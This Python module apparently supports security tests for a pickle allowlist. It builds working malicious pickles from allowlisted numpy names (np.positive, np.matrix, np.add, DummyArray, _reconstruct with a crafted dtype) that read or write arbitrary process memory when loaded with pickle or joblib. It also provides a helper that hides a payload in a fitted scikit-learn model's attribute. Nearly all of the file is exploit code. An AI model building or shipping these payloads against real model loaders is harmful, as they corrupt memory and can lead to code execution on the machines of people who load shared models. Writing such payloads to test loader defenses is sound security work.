"""Pickles built only from names that older allowlists admitted, which read or write process memory when loaded
with plain `pickle.loads` / `joblib.load` (issue 12). Each builder takes an address (and a size) and returns the
file's bytes; the control tests point them at a buffer the test process owns.

- `ufunc_read`: REDUCE of the ufunc `np.positive` over `DummyArray({"data": (address, ...)})`: a copy of memory.
- `matrix_read`: `np.matrix(DummyArray(...))`: a matrix copied from memory.
- `matrix_write`: `np.add(m, 1, m)` where `m = np.matrix(DummyArray(...), copy=False)` is a view of memory: the
  load adds one to every byte at the address.
- `dtype_flags`: an array whose dtype is `np.dtype('O8')` given the state of a `u8` dtype (flags 0): numpy
  copies its 8 raw bytes (an address) into the array, and reading the item treats them as an object pointer.
"""
from __future__ import annotations

import pickle
import struct
from typing import Any

import numpy as np


class _Reduce:
    def __init__(self, func: Any, args: tuple, state: Any = None) -> None:
        self.func, self.args, self.state = func, args, state

    def __reduce__(self) -> tuple:
        return (self.func, self.args) if self.state is None else (self.func, self.args, self.state)


def _dummy(address: int, nbytes: int, writable: bool = False) -> _Reduce:
    from numpy.lib._stride_tricks_impl import DummyArray

    interface = {"data": (address, not writable), "shape": (nbytes,), "typestr": "|u1", "version": 3}
    return _Reduce(DummyArray, (interface,))


def ufunc_read_object(address: int, nbytes: int) -> _Reduce:
    return _Reduce(np.positive, (_dummy(address, nbytes),))


def matrix_read_object(address: int, nbytes: int) -> _Reduce:
    return _Reduce(np.matrix, (_dummy(address, nbytes),))


def matrix_write_object(address: int, nbytes: int) -> _Reduce:
    view = _Reduce(np.matrix, (_dummy(address, nbytes, writable=True), None, False))
    return _Reduce(np.add, (view, 1, view))  # the same object twice: the pickle memoizes it


def dtype_flags_object(address: int, nbytes: int = 8) -> _Reduce:
    from numpy._core.multiarray import _reconstruct

    wild = _Reduce(np.dtype, ("O8", False, True), (3, "<", None, None, None, -1, -1, 0))
    raw = struct.pack("<Q", address)
    return _Reduce(_reconstruct, (np.ndarray, (0,), b"b"), (1, (1,), wild, False, raw))


def in_a_model(payload: Any) -> Any:
    """Hide a payload in a fitted pipeline's attribute, the way an attacker would ship it."""
    from sklearn.linear_model import LogisticRegression

    X = np.arange(20.0).reshape(10, 2)
    est = LogisticRegression().fit(X, np.arange(10) % 2)
    est.classes_ = payload
    return est


#: name -> object(address, nbytes) whose pickle is the payload (pickle it, joblib.dump it, or hide it in a model)
OBJECTS = {
    "ufunc_read": ufunc_read_object,
    "matrix_read": matrix_read_object,
    "matrix_write": matrix_write_object,
    "dtype_flags": dtype_flags_object,
}
#: name -> builder(address, nbytes, protocol) of the pickle bytes
BUILDERS = {name: (lambda make: lambda a, n, p=4: pickle.dumps(make(a, n), protocol=p))(make)
            for name, make in OBJECTS.items()}
